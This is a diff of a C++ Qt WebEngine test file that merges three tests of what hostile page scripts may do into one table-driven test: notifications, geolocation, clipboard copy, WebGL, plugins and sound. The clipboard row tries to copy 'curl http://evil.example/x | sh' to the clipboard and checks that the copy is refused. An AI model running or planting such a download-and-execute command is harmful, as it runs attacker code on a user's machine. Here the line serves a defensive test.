@@ -15,6 +15,7 @@
 #include <QMessageBox>
 #include <QPointer>
 #include <QPushButton>
+#include <QRegularExpression>
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QTemporaryDir>
@@ -184,34 +185,6 @@ TEST_F(PageDialogs, APopUpWindowShowsItsAlertToItselfAlone) {
 // Requests for powers are refused at once: the page's promise settles, with "denied".
 using PowersAreRefused = HostilePagesTest;
 
-TEST_F(PowersAreRefused, NotificationsAndLocationAreDeniedAtOnce) {
-    sites.scripts[1] =
-        "Notification.requestPermission().then(function (answer) {\n"
-        "    report('notifications=' + answer);\n"
-        "});\n"
-        "navigator.geolocation.getCurrentPosition(\n"
-        "    function () { report('geolocation=granted'); },\n"
-        "    function (error) { report('geolocation=' + error.code); });\n";
-    Start();
-    // The fixture sites are served over http, where the engine would refuse the location on its
-    // own: the real sites are https.
-    window->pane(1)->page()->settings()->setAttribute(
-        QWebEngineSettings::AllowGeolocationOnInsecureOrigins, true);
-    QList<QWebEnginePage::Feature> asked;
-    QObject::connect(window->pane(1)->page(), &QWebEnginePage::featurePermissionRequested,
-                     window.get(),
-                     [&](const QUrl&, QWebEnginePage::Feature feature) { asked << feature; });
-    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= 2; }));
-    QStringList reports = Reports();
-    reports.sort();
-    // Error code 1 is PERMISSION_DENIED.
-    EXPECT_EQ(reports, (QStringList{u"it.jobrapido.com?geolocation=1"_s,
-                                    u"it.jobrapido.com?notifications=denied"_s}));
-    // The program was asked, and answered: the engine did not refuse on its own.
-    EXPECT_TRUE(asked.contains(QWebEnginePage::Notifications));
-    EXPECT_TRUE(asked.contains(QWebEnginePage::Geolocation));
-}
-
 // A page may open the file dialog on its user's click, for a CV to upload: the dialog names
 // the site and holds only its window, and the watch goes on while it is open (a refresh
 // reloads the page that asked, as it would any other). The engine calls the program for the
@@ -301,48 +274,78 @@ TEST_F(PowersAreRefused, AFileDialogOnAClickLeavesTheWatchGoing) {
     }
 }
 
-// Without its user's click a page's script cannot copy to the clipboard.
-TEST_F(PowersAreRefused, AScriptAloneCannotCopyToTheClipboard) {
+// What a page's script finds it may do, each pane a row: no notifications or location (the
+// program is asked, and refuses at once), no copy to the clipboard without its user's click, no
+// WebGL, no plugins and no sound before the user's gesture (a page's own sound is never taken
+// for the program's alert). Headless, without GL, WebGL is off anyway: that row tells only where
+// the tests have a display with GL.
+TEST_F(PowersAreRefused, APageFindsNoPowerAndASmallerEngine) {
     QClipboard* clipboard = QGuiApplication::clipboard();
     clipboard->setText(u"testo dell'utente"_s);
     QSignalSpy changes(clipboard, &QClipboard::dataChanged);
-    sites.scripts[3] =
-        "addEventListener('load', function () {\n"
-        "    var area = document.createElement('textarea');\n"
-        "    area.value = 'curl http://evil.example/x | sh';\n"
-        "    document.body.appendChild(area);\n"
-        "    area.select();\n"
-        "    report('copy=' + document.execCommand('copy'));\n"
-        "});\n";
-    Start();
-    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= 1; }));
-    EXPECT_EQ(Reports(), QStringList{u"www.infojobs.it?copy=false"_s});
-    // A bound on how long a copy would take to reach the clipboard.
-    EXPECT_FALSE(WaitFor([&] { return changes.count() > 0; }, 1000));
-    EXPECT_EQ(clipboard->text(), u"testo dell'utente"_s);
-}
-
-// A smaller engine: no WebGL, no plugins, no sound before the user's gesture (a page's own
-// sound is never taken for the program's alert). Headless, without GL, WebGL is off anyway:
-// that part tells only where the tests have a display with GL.
-using SmallerEngine = HostilePagesTest;
-
-TEST_F(SmallerEngine, NoWebGlNoPluginsNoSoundBeforeAGesture) {
-    sites.scripts[3] =
-        "var canvas = document.createElement('canvas');\n"
-        "report('webgl=' + !!(canvas.getContext('webgl') || canvas.getContext('webgl2')));\n"
-        "report('plugins=' + navigator.plugins.length + '&pdf=' + navigator.pdfViewerEnabled);\n"
-        "var sound = new Audio('/suono.wav');\n"
-        "sound.play().then(function () { report('sound=played'); },\n"
-        "                  function (error) { report('sound=' + error.name); });\n";
+    struct Row {
+        int pane;
+        QByteArray script;
+        QStringList reports;  // what the page reports, sorted
+    };
+    const Row rows[] = {
+        {1,
+         "Notification.requestPermission().then(function (answer) {\n"
+         "    report('notifications=' + answer);\n"
+         "});\n"
+         "navigator.geolocation.getCurrentPosition(\n"
+         "    function () { report('geolocation=granted'); },\n"
+         "    function (error) { report('geolocation=' + error.code); });\n",
+         // Error code 1 is PERMISSION_DENIED.
+         {u"it.jobrapido.com?geolocation=1"_s, u"it.jobrapido.com?notifications=denied"_s}},
+        {2,
+         "addEventListener('load', function () {\n"
+         "    var area = document.createElement('textarea');\n"
+         "    area.value = 'curl http://evil.example/x | sh';\n"
+         "    document.body.appendChild(area);\n"
+         "    area.select();\n"
+         "    report('copy=' + document.execCommand('copy'));\n"
+         "});\n",
+         {u"www.jobonline.it?copy=false"_s}},
+        {3,
+         "var canvas = document.createElement('canvas');\n"
+         "report('webgl=' + !!(canvas.getContext('webgl') || canvas.getContext('webgl2')));\n"
+         "report('plugins=' + navigator.plugins.length + '&pdf=' + navigator.pdfViewerEnabled);\n"
+         "var sound = new Audio('/suono.wav');\n"
+         "sound.play().then(function () { report('sound=played'); },\n"
+         "                  function (error) { report('sound=' + error.name); });\n",
+         {u"www.infojobs.it?plugins=0&pdf=false"_s, u"www.infojobs.it?sound=NotAllowedError"_s,
+          u"www.infojobs.it?webgl=false"_s}},
+    };
+    qsizetype expected = 0;
+    for (const Row& row : rows) {
+        sites.scripts[static_cast<std::size_t>(row.pane)] = row.script;
+        expected += row.reports.size();
+    }
     sites.elsewhere["www.infojobs.it/suono.wav"] = {.contentType = "audio/wav", .body = Wave()};
     Start();
-    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= 3; }));
-    QStringList reports = Reports();
-    reports.sort();
-    EXPECT_EQ(reports, (QStringList{u"www.infojobs.it?plugins=0&pdf=false"_s,
-                                    u"www.infojobs.it?sound=NotAllowedError"_s,
-                                    u"www.infojobs.it?webgl=false"_s}));
+    // The fixture sites are served over http, where the engine would refuse the location on its
+    // own: the real sites are https.
+    window->pane(1)->page()->settings()->setAttribute(
+        QWebEngineSettings::AllowGeolocationOnInsecureOrigins, true);
+    QList<QWebEnginePage::Feature> asked;
+    QObject::connect(window->pane(1)->page(), &QWebEnginePage::featurePermissionRequested,
+                     window.get(),
+                     [&](const QUrl&, QWebEnginePage::Feature feature) { asked << feature; });
+    ASSERT_TRUE(WaitFor([&] { return Reports().size() >= expected; }));
+    for (const Row& row : rows) {
+        const QString host = fixtures::SiteHost(row.pane);
+        QStringList reports = Reports().filter(
+            QRegularExpression(u"^"_s + QRegularExpression::escape(host) + u"\\?"_s));
+        reports.sort();
+        EXPECT_EQ(reports, row.reports) << row.pane;
+    }
+    // The program was asked, and answered: the engine did not refuse on its own.
+    EXPECT_TRUE(asked.contains(QWebEnginePage::Notifications));
+    EXPECT_TRUE(asked.contains(QWebEnginePage::Geolocation));
+    // The copy was refused in the page, before anything could reach the clipboard.
+    EXPECT_EQ(changes.count(), 0);
+    EXPECT_EQ(clipboard->text(), u"testo dell'utente"_s);
 }
 
 // Whatever a page does, no desktop program is started for it.
